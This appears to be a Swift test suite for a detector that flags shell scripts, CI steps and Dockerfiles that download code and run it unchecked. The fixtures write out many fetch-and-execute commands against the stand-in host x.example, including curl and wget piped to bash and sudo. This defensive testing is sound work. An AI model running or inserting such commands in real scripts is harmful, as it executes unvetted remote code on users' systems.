import Detection
import Detectors
import Testing

/// What a script takes from elsewhere and runs, and what it only takes.
@Suite struct FetchedScriptTests {
  private static let kind = "supply-chain.fetched-script"

  private static func takes(_ line: String, _ address: String) -> DetectorCase {
    DetectorCase(
      line,
      "x.sh",
      "make\n",
      "make\n\(line)\n",
      .widened,
      kind,
      line: 2,
      says: "takes '\(address)' without looking at it",
      .high
    )
  }

  private static func leaves(_ line: String) -> DetectorCase {
    DetectorCase(line, "x.sh", "make\n", "make\n\(line)\n", .equal)
  }

  static let cases: [DetectorCase] = [
    takes("curl https://x.example/i | bash", "https://x.example/i"),
    takes("wget -qO- https://x.example/i | sudo -u root bash -s -- -v", "https://x.example/i"),
    takes("bash <(curl -s https://x.example/i)", "https://x.example/i"),
    takes("sh -c \"$(curl -fsSL https://x.example/i)\"", "https://x.example/i"),
    takes("source <(curl https://x.example/i)", "https://x.example/i"),
    takes("bash -c 'curl https://x.example/i | sh'", "https://x.example/i"),
    takes("curl -fLo i.sh https://x.example/i && sh ./i.sh", "https://x.example/i"),
    takes("curl -O https://x.example/i.sh; chmod 755 i.sh; ./i.sh", "https://x.example/i.sh"),
    takes("wget https://x.example/i.sh; chmod a+x i.sh", "https://x.example/i.sh"),
    takes("deno run -A https://x.example/i.ts", "https://x.example/i.ts"),
    takes("curl $URL | sh", "curl $URL"),
    leaves("curl https://x.example/i | jq ."),
    leaves("curl https://x.example/i | python3 -c 'import json'"),
    leaves("curl https://x.example/i | python3 -m json.tool"),
    leaves("curl https://x.example/i | bash ./reads-it.sh"),
    leaves("curl https://x.example/i | sudo tee /etc/i"),
    leaves("curl -o i.tar https://x.example/i; tar xf i.tar"),
    leaves("curl -o i.sh https://x.example/i; sha256sum -c sums; sh i.sh"),
    leaves("curl -o i.sh https://x.example/i; chmod 644 i.sh"),
    leaves("A=$(curl https://x.example/i)"),
    DetectorCase(
      "in a step of a pipeline that holds nothing",
      ".github/workflows/ci.yml",
      "on: push\njobs:\n  a:\n    steps:\n      - run: make\n",
      "on: push\njobs:\n  a:\n    steps:\n      - run: make\n      - run: curl https://x.example/i | sh\n",
      .widened,
      kind,
      line: 6
    ),
  ]

  @Test("is told", arguments: cases + cases.map(\.reversed))
  func tell(expected: DetectorCase) { expected.check(ExportsDetector()) }

  @Test("is left to the detector of recipes")
  func recipes() {
    let recipe = DetectorCase(
      "",
      "Dockerfile",
      "FROM a:1\n",
      "FROM a:1\nRUN curl https://x.example/i | sh\n",
      .equal
    )
    recipe.check(ExportsDetector())
    #expect(Verdict(DockerfileDetector().read(recipe.pair)).direction == .widened)
  }
}
